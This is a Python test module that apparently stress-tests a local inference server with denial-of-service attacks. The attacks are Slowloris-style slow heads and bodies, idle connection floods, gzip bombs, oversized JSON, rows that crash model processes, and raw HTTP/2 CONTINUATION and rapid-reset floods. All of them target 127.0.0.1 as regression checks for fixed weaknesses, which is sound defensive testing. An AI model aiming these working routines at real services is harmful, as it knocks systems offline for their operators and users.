"""What clients did to break the server: each attack runs in a process of its own until it is told
to stop, from an address of its own (127.0.0.2), and says how many requests it sent and how they
ended."""

import gzip
import json
import socket
import struct
import threading
import time

ADDRESS = "127.0.0.2"


def connect(port, timeout=5):
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((ADDRESS, 0))
    s.connect(("127.0.0.1", port))
    return s


def status_of(s):
    """The status of the answer on `s`; 0: it ended instead."""
    return answer_of(s)[0]


def answer_of(s):
    """The status and the head of the answer on `s`; 0 and b"": it ended instead."""
    try:
        head = b""
        while b"\r\n\r\n" not in head:
            more = s.recv(65536)
            if not more:
                return 0, b""
            head += more
        length = int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
        got = len(head.split(b"\r\n\r\n", 1)[1])
        while got < length:
            more = s.recv(65536)
            if not more:
                return 0, b""
            got += len(more)
        return int(head.split(b" ", 2)[1]), head
    except OSError:
        return 0, b""


def count(statuses, status):
    statuses[str(status)] = statuses.get(str(status), 0) + 1


def hold(port, stop, first_bytes, most):
    """Opens `most` connections, sends `first_bytes` on each, and opens anew what was closed."""
    statuses, open_now = {}, []
    while not stop.is_set():
        try:
            while len(open_now) < most and not stop.is_set():
                s = connect(port)
                if first_bytes:
                    s.sendall(first_bytes)
                s.setblocking(False)
                open_now.append(s)
                count(statuses, "opened")
        except OSError:
            count(statuses, "refused")
        still = []
        for s in open_now:
            try:
                gone = s.recv(4096) == b""
            except BlockingIOError:
                gone = False
            except OSError:
                gone = True
            if gone:
                s.close()
                count(statuses, "closed")
            else:
                still.append(s)
        open_now = still
        time.sleep(0.05)
    for s in open_now:
        s.close()
    return statuses


def idle(port, stop):
    return hold(port, stop, b"", 700)


def slow_heads(port, stop):
    return hold(port, stop, b"POST /v2/models/echo/infer HTTP/1.1\r\nHost: x\r\nX: ", 700)


def slow_bodies(port, stop):
    return hold(port, stop, b"POST /v2/models/echo/infer HTTP/1.1\r\nHost: x\r\n"
                            b"Content-Length: 50000000\r\n\r\n{", 700)


def post(path, body, fields=""):
    return (f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n{fields}\r\n"
            ).encode() + body


def repeat(port, stop, message, senders):
    """So many senders, each of which sends the message again as soon as it has its answer."""
    statuses, lock = {}, threading.Lock()

    def send():
        while not stop.is_set():
            try:
                with connect(port, timeout=20) as s:
                    while not stop.is_set():
                        s.sendall(message)
                        status = status_of(s)
                        with lock:
                            count(statuses, status)
                        if status != 200:
                            break
            except OSError:
                with lock:
                    count(statuses, "cut")
                time.sleep(0.01)

    threads = [threading.Thread(target=send) for _ in range(senders)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return statuses


def numbers(count):
    return json.dumps({"inputs": [{"name": "INPUT0", "shape": [count], "datatype": "FP32",
                                   "data": [0.5] * count}]}).encode()


def gzip_bodies(port, stop):
    """Thirty senders of small bodies that unpack to 20 MB."""
    body = gzip.compress(numbers(4_000_000))
    message = post("/v2/models/large/infer", body, "Content-Encoding: gzip\r\n")
    return repeat(port, stop, message, 30)


def gzip_bombs(port, stop):
    """Bodies that unpack beyond every limit."""
    body = gzip.compress(b" " * 200_000_000)
    return repeat(port, stop, post("/v2/models/large/infer", body, "Content-Encoding: gzip\r\n"), 4)


def long_json(port, stop):
    """One sender of 40 MB of JSON."""
    return repeat(port, stop, post("/v2/models/large/infer", numbers(8_000_000)), 1)


def pick(index):
    """For tests/data/pick.onnx, which fails for what is not from 0 to 3."""
    return json.dumps({"inputs": [{"name": "x", "shape": [1, 1], "datatype": "INT64",
                                   "data": [index]}]}).encode()


def bad_rows(port, stop):
    """Eight senders of rows that fail whatever batch they are in."""
    return repeat(port, stop, post("/v2/models/pick/infer", pick(99)), 8)


def divide(number):
    return json.dumps({"inputs": [{"name": "x", "shape": [1, 1], "datatype": "INT64",
                                   "data": [number]}]}).encode()


def crashing_rows(port, stop):
    """One sender of rows that kill the process of whoever runs them (tests/data/divide.onnx)."""
    return repeat(port, stop, post("/v2/models/divide/infer", divide(-2**63)), 1)


def frame(kind, flags, stream, payload):
    """Of HTTP/2, in the raw."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def continuation(port, stop):
    """A head that never ends, 256 MB of it on one connection after the other."""
    statuses = {}
    value = b"v" * 16_000
    size = b"\x7f" + bytes([(len(value) - 127) & 0x7F | 0x80, (len(value) - 127) >> 7])
    more = b"\x00\x01n" + size + value
    while not stop.is_set():
        try:
            with connect(port) as s:
                s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
                          + frame(1, 0, 1, more))
                for _ in range(16_000):
                    if stop.is_set():
                        break
                    s.sendall(frame(9, 0, 1, more))
                    count(statuses, "frames")
        except OSError:
            count(statuses, "cut")
    return statuses


def grpc_resets(port, stop):
    """Streams that are opened and reset at once, on four connections (HTTP/2 in the raw)."""
    statuses = {}
    block = b"".join(literal(n, v) for n, v in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"x"),
        (b":path", b"/inference.GRPCInferenceService/ServerLive"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))
    while not stop.is_set():
        try:
            with connect(port) as s:
                s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
                for stream in range(1, 4001, 2):
                    s.sendall(frame(1, 4, stream, block) + frame(3, 0, stream, b"\0\0\0\x08"))
                    count(statuses, "reset")
        except OSError:
            count(statuses, "cut")
    return statuses


# By name: what runs, on which port, and what it was before it was mended.
ATTACKS = {
    "idle connections": (idle, "http"),
    "slow heads": (slow_heads, "http"),
    "slow bodies": (slow_bodies, "http"),
    "gzip bodies": (gzip_bodies, "http"),
    "gzip bombs": (gzip_bombs, "http"),
    "40 MB of JSON": (long_json, "http"),
    "bad rows": (bad_rows, "http"),
    "crashing rows": (crashing_rows, "http"),
    "rapid resets": (grpc_resets, "grpc"),
    "continuation": (continuation, "grpc"),
}
